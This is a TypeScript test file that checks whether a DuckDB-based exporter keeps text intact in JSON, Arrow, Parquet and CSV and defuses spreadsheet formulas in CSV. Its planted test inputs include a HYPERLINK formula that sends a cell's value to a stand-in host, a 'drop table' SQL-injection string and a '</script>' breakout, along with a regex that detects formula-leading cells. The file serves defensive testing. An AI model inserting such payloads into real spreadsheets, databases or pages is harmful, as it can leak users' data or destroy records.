import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { arrowOf, csvOf, jsonRowsOf, parquetOf, selectOfRows, type Select } from '../../../queries/index.ts'
import { arrowRows, bytesOf, openDatabase, tableOf, textOf, type Database } from './exported.ts'

let database: Database
beforeAll(async () => {
  database = await openDatabase()
})
afterAll(() => database.close())

const planted = [
  '',
  ' ',
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  '＝1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\n=1',
  'a,b',
  'say "x"',
  '"',
  'two\nlines',
  'two\r\nlines',
  'cr\rhere',
  "'",
  '\\',
  '\\"',
  'a\0b',
  '\0',
  '\u2028\u2029',
  '😀 👩‍👩‍👧',
  '客户，有限公司',
  'null',
  '</script>',
  "'; drop table customers; --",
  '\ud800',
  'x\udc00y',
  'x'.repeat(100_000)
]

const nullAndTexts = (texts: readonly string[]): { texts: (string | null)[]; select: Select } => {
  const cells = [null, ...texts]
  return {
    // What is no text in UTF-8 comes out as the replacement character.
    texts: cells.map((cell) => cell?.toWellFormed() ?? null),
    select: selectOfRows(
      [
        { name: 'place', type: 'BIGINT' },
        { name: 'text', type: 'VARCHAR' }
      ],
      cells.map((text, place) => ({ place, text }))
    )
  }
}

const unguarded = (text: string): string => text.replace(/^'(?=[\s\p{C}]*[=+\-@＝＋－＠\t\r\n])/u, '')

const readers: Record<string, (select: Select) => Promise<unknown[]>> = {
  json: async (select) => {
    const rows = JSON.parse(await textOf(await jsonRowsOf(database.connection, select))) as {
      text: unknown
    }[]
    return rows.map((row) => row.text)
  },
  arrow: async (select) =>
    arrowRows(await tableOf(await arrowOf(database.connection, select))).map((row) => row['text']),
  parquet: async (select) => {
    const path = join(database.folder, 'text.parquet')
    writeFileSync(path, await bytesOf(await parquetOf(database.connection, select, database)))
    const read = await database.connection.runAndReadAll(`select text from read_parquet('${path}')`)
    return read.getRowsJS().map(([text]) => text)
  }
}

async function csvCells(select: Select): Promise<string[]> {
  const text = await textOf(await csvOf(database.connection, select))
  const { data, errors } = Papa.parse<string[]>(text, { newline: '\n', delimiter: ',' })
  expect(errors).toEqual([])
  return data.slice(1, -1).map(([, cell]) => cell ?? 'no cell')
}

// DuckDB's Node API drops a leading byte order mark when it reads a text.
const anyText = fc.string({ unit: 'binary', maxLength: 40 }).filter((text) => !text.startsWith('\ufeff'))

const anyTexts = fc.array(anyText, { maxLength: 200 })

describe('hostile text', () => {
  it.each(Object.keys(readers))('survives in %s', async (format) => {
    const { select, texts } = nullAndTexts(planted)
    expect(await readers[format]?.(select)).toEqual(texts)
  })

  it('survives in CSV, disarmed', async () => {
    const { select, texts } = nullAndTexts(planted)
    const cells = await csvCells(select)
    expect(cells.map(unguarded)).toEqual(texts.map((text) => unguarded(text ?? '')))
    expect(cells.filter((cell) => /^[\s\p{C}]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell))).toEqual([])
  })

  it('survives in CSV as DuckDB reads it', async () => {
    const { select, texts } = nullAndTexts(planted.slice(0, -1))
    const path = join(database.folder, 'text.csv')
    writeFileSync(path, await bytesOf(await csvOf(database.connection, select)))
    const read = await database.connection.runAndReadAll(
      `select text from read_csv('${path}', header = true, all_varchar = true, delim = ',', quote = '"',
        escape = '"', new_line = '\\n', allow_quoted_nulls = false)`
    )
    expect(read.getRowsJS().map(([text]) => (typeof text === 'string' ? unguarded(text) : text))).toEqual(
      texts.map((text) => (text === null ? null : unguarded(text)))
    )
  })

  it('of any kind survives in every format', async () => {
    await fc.assert(
      fc.asyncProperty(anyTexts, async (generated) => {
        const { select, texts } = nullAndTexts(generated)
        for (const read of Object.values(readers)) expect(await read(select)).toEqual(texts)
        expect((await csvCells(select)).map(unguarded)).toEqual(texts.map((text) => unguarded(text ?? '')))
      }),
      { numRuns: 20, seed: 20261101 }
    )
  })
})

describe('CSV', () => {
  it('begins with a byte order mark when asked to', async () => {
    const select = { sql: "select '客户' as 名" }
    const plain = await bytesOf(await csvOf(database.connection, select))
    const marked = await bytesOf(await csvOf(database.connection, select, { bom: true }))
    expect(plain.toString('utf8')).toBe('名\n客户\n')
    expect(marked).toEqual(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), plain]))
  })

  it('of one column has no blank lines', async () => {
    const sql = `select nullif(range, 1) as n from range(3)`
    expect(await textOf(await csvOf(database.connection, { sql }))).toBe('n\n0\n""\n2\n')
  })
})
